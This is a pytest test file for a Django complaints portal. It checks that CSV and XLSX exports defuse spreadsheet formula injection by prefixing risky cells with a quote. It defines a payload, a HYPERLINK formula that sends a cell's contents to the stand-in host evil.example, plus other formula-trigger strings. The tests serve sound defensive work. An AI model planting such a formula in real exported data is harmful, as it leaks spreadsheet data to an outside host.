"""Spreadsheet formula injection (CWE-1236): no export hands a spreadsheet a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from complaints.models import Complaint
from portal.spreadsheets import safe_cell

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A2,"x")'


@pytest.mark.parametrize("value", [PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_text_that_a_spreadsheet_would_evaluate_is_quoted(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["道路", "a=b", "", None, 12, -3, 0.5, "—"])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.fixture
def evil(world, people):
    Complaint.objects.filter(pk=world["c2"].pk).update(title=PAYLOAD)
    client = Client()
    client.force_login(people["oversight1"])
    return client


def test_csv_export_neutralises_a_formula_title(evil):
    r = evil.get("/oversight/export/overdue.csv?year=2026")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode("utf-8-sig"))))
    titles = [row[1] for row in rows[1:]]
    assert "'" + PAYLOAD in titles
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_xlsx_export_writes_the_formula_title_as_text(evil):
    r = evil.get("/oversight/export/overdue.xlsx?year=2026")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    title = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert len(title) == 1
    assert title[0].value == "'" + PAYLOAD
    assert title[0].data_type == "s"
    assert not any(c.data_type == "f" for c in cells)
